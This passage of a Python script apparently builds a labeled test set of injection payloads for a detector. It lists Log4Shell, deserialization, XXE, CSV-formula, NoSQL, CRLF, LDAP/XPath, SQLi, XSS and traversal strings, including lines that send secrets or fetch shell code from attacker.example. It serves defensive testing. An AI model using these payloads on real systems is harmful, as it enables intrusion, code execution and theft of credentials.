    ("log4shell-dns-env-exfil", "User-Agent: JAWS/2024 ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}"),
    ("log4shell-mixed-lower", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/o}"),
    ("log4shell-env-default", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell-urlencode", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    ("log4shell-ldaps", "Support request ${jndi:ldaps://attacker.example:636/c}"),
    ("proto-pollution-json", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-pollution-ejs-gadget", "__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto-pollution-query-shell", "constructor[prototype][shell]=/proc/self/exe&constructor[prototype][argv0]=console.log(require('child_process').execSync('id').toString())//"),
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Click for details\")"),
    ("csv-at-sum-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-plus-powershell", "+cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-minus-dde", "-2+3+cmd|' /C calc'!A0"),
    ("csv-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&A2)"),
    ("csv-importxml-sheets", "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1),\"//a\")"),
    ("csv-libreoffice-dde", "=DDE(\"cmd\";\"/C calc\";\"x\")"),
    ("xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
    ("xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"https://attacker.example/x.dtd\">%p;]><r/>"),
    ("xinclude-ttml-captions", "<tt xmlns=\"http://www.w3.org/ns/ttml\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><body><div><p><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></p></div></body></tt>"),
    ("xxe-svg-alt-source", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><title>&e;</title></svg>"),
    ("xxe-entity-expansion", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">]><l>&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;</l>"),
    ("xxe-php-filter", "<!DOCTYPE d [<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><d>&x;</d>"),
    ("yaml-python-apply-system", "!!python/object/apply:os.system [\"id\"]"),
    ("yaml-python-new-subprocess", "title: Audit\nrunner: !!python/object/new:subprocess.check_output [[\"id\"]]"),
    ("yaml-snakeyaml-urlclassloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("pickle-base64-reduce", "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg=="),
    ("pickle-protocol0-text", "cos\nsystem\n(S'id'\ntR."),
    ("java-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("java-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Obj\",\"autoCommit\":true}"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-object-injection", "O:11:\"AuditLogger\":2:{s:7:\"logfile\";s:23:\"/var/www/html/shell.php\";s:4:\"data\";s:28:\"<?php system($_GET[\"c\"]); ?>\";}"),
    ("php-phar-wrapper", "phar://uploads/captions/intro.vtt/x.txt"),
    ("php-eval-breakout", "1);system('id');//"),
    ("python-eval-import", "__import__('os').popen('id').read()"),
    ("node-eval-child-process", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("node-eval-string-breakout", "'+require('child_process').execSync('id')+'"),
    ("ruby-interpolation-eval", "#{`id`}"),
    ("ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("spring4shell-classloader", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i"),
])

# ------------------------------------------------------------------ nosqli (Mongo operators, $where JS, query-string operators)
add("nosqli", [
    ("json-ne-null", "{\"$ne\": null}"),
    ("json-gt-empty", "{\"$gt\": \"\"}"),
    ("json-regex-prefix", "{\"$regex\": \"^adm\"}"),
    ("where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-password-match", "{\"$where\": \"this.password.match(/^a/)\"}"),
    ("query-ne", "password[$ne]=x"),
    ("query-regex-and-ne", "username[$regex]=.*&password[$ne]="),
    ("where-string-breakout", "'; return true; var x='"),
    ("where-or-tautology", "' || '1'=='1"),
    ("json-or-empty", "{\"$or\": [{}, {\"a\": \"a\"}]}"),
    ("json-expr-eq", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("json-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(5000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("json-in-roles", "{\"$in\": [\"admin\", \"root\"]}"),
    ("json-exists", "{\"$exists\": true}"),
    ("json-nin-empty", "{\"$nin\": []}"),
    ("query-email-ne", "email[$ne]=nobody@example.com"),
    ("aggregation-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"leak\"}}]"),
    ("couchdb-mango-gt-null", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("js-object-literal-where", "x', $where: '1 == 1"),
    ("where-function-role", "{\"$where\": \"function(){ return this.role == 'admin' }\"}"),
    ("urlencode-ne-null", "%7B%22%24ne%22%3Anull%7D"),
    ("json-regex-both", "{\"username\": {\"$regex\": \".*\"}, \"password\": {\"$regex\": \".*\"}}"),
    ("where-sleep-breakout", "a'; sleep(5000); var b='"),
    ("query-token-regex", "token[$regex]=^a.*"),
    ("json-elemmatch", "{\"$elemMatch\": {\"role\": {\"$ne\": \"user\"}}}"),
    ("query-gt-empty", "audit_id[$gt]="),
    ("where-unicode-escaped-quote", "\\u0027; return db.users.find(); var x=\\u0027"),
])

# ------------------------------------------------------------------ crlf (log forging, header injection, response splitting, mail headers)
add("crlf", [
    ("log-forging-admin-login", "Finding resolved\r\n[2024-05-02 10:00:00] INFO admin login succeeded user=root ip=10.0.0.1"),
    ("header-set-cookie-urlencode", "%0d%0aSet-Cookie:%20session=attacker"),
    ("lang-header-set-cookie", "en-US\r\nSet-Cookie: sid=fixated123; Path=/"),
    ("redirect-location-injection", "/report\r\nLocation: https://attacker.example/"),
    ("response-splitting-html", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("mail-bcc-injection", "user@example.com\r\nBcc: everyone@attacker.example"),
    ("mail-subject-cc", "Support request: NVDA issue\r\nCc: victim@example.org"),
    ("mail-bcc-urlencode", "a11y@example.org%0ABcc:list@attacker.example"),
    ("unicode-crlf-node", "%E5%98%8A%E5%98%8DSet-Cookie:x=y"),
    ("double-urlencode-header", "%250d%250aX-Injected:%25201"),
    ("log-forging-lf", "alt text updated\nAUDIT 2024-05-01T12:00:00Z user=admin action=delete_all status=ok"),
    ("unicode-escape-header", "\\u000d\\u000aX-Forwarded-For: 127.0.0.1"),
    ("smtp-data-injection", "Hi\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Password reset\r\n\r\nVisit https://attacker.example/reset\r\n.\r\n"),
    ("mail-content-type-html", "Audit report\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>verify your account</a>"),
    ("response-splitting-urlencode", "%0d%0aX-XSS-Protection:0%0d%0a%0d%0a<svg onload=alert(1)>"),
    ("log-forging-access-line", "NVDA 2024.1\n127.0.0.1 - admin [01/May/2024:10:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 5120"),
    ("lf-location-urlencode", "%0aLocation:%20//attacker.example"),
    ("header-cors-injection", "fr-CA\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-refresh-injection", "page-2\r\nRefresh: 0; url=https://attacker.example/"),
    ("log-cr-overwrite", "Contrast fixed\rERROR payment failed for user=alice amount=0"),
    ("log-ansi-escape", "Caption saved\u001b[2K\u001b[1G\u001b[31mCRITICAL: audit database wiped by admin\u001b[0m"),
    ("uppercase-urlencode-splitting", "%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20302%20Found%0D%0ALocation:%20https://attacker.example/"),
    ("mail-subject-lf-urlencode", "Screen reader broken%0ABcc: all@attacker.example"),
    ("mail-name-reply-to", "Jo O'Neil\r\nReply-To: x@attacker.example"),
    ("jsonl-log-forging", "note\"}\n{\"level\":\"info\",\"user\":\"admin\",\"event\":\"role_granted\",\"target\":\"attacker\"}"),
    ("log-line-separator", "Feedback sent\u2028[INFO] user=admin authenticated via SSO"),
    ("response-body-injection-urlencode", "%0d%0a%0d%0a<html><form action=https://attacker.example/>Session expired</form></html>"),
    ("header-x-accel-redirect", "report.pdf\r\nX-Accel-Redirect: /internal/secrets/.env"),
    ("header-transfer-encoding-smuggle", "en\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
])

# ------------------------------------------------------------------ ldap-xpath (LDAP filter, XPath expression)
add("ldap-xpath", [
    ("ldap-uid-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("ldap-and-true", "admin)(&)"),
    ("ldap-objectclass-wildcard", "*)(objectClass=*"),
    ("ldap-memberof-or", "jdoe)(|(memberOf=cn=admins,ou=groups,dc=example,dc=org)"),
    ("ldap-userpassword-probe", "*)(|(userPassword=*)"),
    ("ldap-null-terminate", "a*)(cn=*))%00"),
    ("ldap-urlencode", "%2a%29%28uid%3d%2a"),
    ("ldap-close-or-objectclass", "*))(|(objectClass=*"),
    ("ldap-password-prefix-blind", "admin)(userPassword=a*"),
    ("ldap-mail-wildcard", "screenreader*)(|(mail=*)"),
    ("xpath-string-tautology", "' or '1'='1"),
    ("xpath-or-chain", "' or 1=1 or ''='"),
    ("xpath-union-node", "'] | //user/password | //a['"),
    ("xpath-name-probe", "x' or name()='username' or 'x'='y"),
    ("xpath-count-probe", "' or count(/*)=1 or '"),
    ("xpath-substring-blind", "' or substring(//user[1]/password,1,1)='a' or '"),
    ("xpath-all-nodes", "')] | //* | //*[('"),
    ("xpath-numeric-or", "1 or 1=1"),
    ("xpath-string-length", "' or string-length(//user[position()=1]/password)>5 or '"),
    ("xpath-contains-role", "doc-reader' or contains(//role,'admin') or '"),
])

# ------------------------------------------------------------------ templated part (hand-written prefixes x hand-written payloads, or one encoding)
PREFIXES = [
    "WCAG 1.1.1 alt text: ",
    "Finding 2.4.7 on #main-nav a: ",
    "NVDA transcript: ",
    "aria-label=",
    "Caption cue 00:01:12.300: ",
    "Support ticket #5512 — ",
    "Contrast 3.2:1 note: ",
    "Shortcut Ctrl+Shift+L: ",
]
TPL = {
    "sqli": (8, "prefix", [
        ("union-select", "' UNION SELECT email, password FROM users-- -"),
        ("mysql-sleep", "' AND SLEEP(5)#"),
        ("mssql-waitfor", "'; WAITFOR DELAY '0:0:7'--"),
        ("or-tautology", "' OR 'a'='a"),
        ("pg-stacked-drop", "'; DROP TABLE captions CASCADE--"),
    ]),
    "xss": (8, "prefix", [
        ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
        ("svg-onload", "<svg onload=alert(document.domain)>"),
        ("script-src", "<script src=//attacker.example/x.js></script>"),
        ("iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ]),
    "cmdi": (7, "prefix", [
        ("semicolon-id", "; id"),
        ("subshell-curl", "$(curl attacker.example/s|sh)"),
        ("backtick-whoami", "`whoami`"),
        ("windows-whoami", "& whoami"),
    ]),
    "traversal": (5, "urlencode", [
        ("dotdot-shadow", "../../../../etc/shadow"),
        ("windows-win-ini", "..\\..\\..\\..\\windows\\win.ini"),
        ("caption-escape-ssh", "captions/../../../../root/.ssh/authorized_keys"),
        ("proc-self-environ", "../../../../../proc/self/environ"),
        ("app-env", "../../../.env"),
    ]),
    "crlf": (1, "urlencode", [
        ("set-cookie", "en\r\nSet-Cookie: admin=1"),
        ("mail-bcc", "help@example.org\r\nBcc: leak@attacker.example"),
        ("log-forging", "done\r\n[INFO] user=admin granted role=owner"),
    ]),
}


def build():
    rng = random.Random(SEED)
    rows = list(L)
    literal_n = len(rows)
    seen = set(v for _, _, v in rows)
    assert len(seen) == len(rows), "duplicate literal"
    extra = {}
    for cat in ["sqli", "xss", "cmdi", "traversal", "crlf"]:
        n, mode, payloads = TPL[cat]
        got = []
        if mode == "prefix":
            combos = [(p, c, v) for p in PREFIXES for (c, v) in payloads]
            rng.shuffle(combos)
            for p, c, v in combos:
                val = p + v
                if val in seen:
                    continue
                seen.add(val)
                got.append((cat, "tpl-prefix-" + c, val))
                if len(got) == n:
                    break
        else:
            pl = list(payloads)
            rng.shuffle(pl)
            for c, v in pl[:n]:
                val = urllib.parse.quote(v, safe="")
                assert val not in seen
                seen.add(val)
                got.append((cat, "tpl-" + c + "+urlencode", val))
        assert len(got) == n
        extra[cat] = got
    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    final = []
    for cat in order:
        final.extend(r for r in rows if r[0] == cat)
        final.extend(extra.get(cat, []))
    lines = []
    for i, (cat, cls, val) in enumerate(final, 1):
        assert val.strip()
        lines.append(json.dumps({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                                 "label": "attack", "value": val}, ensure_ascii=False))
    return lines, literal_n


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    lines, literal_n = build()
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for line in lines:
            f.write(line + "\n")
    print("wrote %d attack values (%d hand-written literals, %.1f%%)" % (len(lines), literal_n, 100.0 * literal_n / len(lines)))


if __name__ == "__main__":
    main()
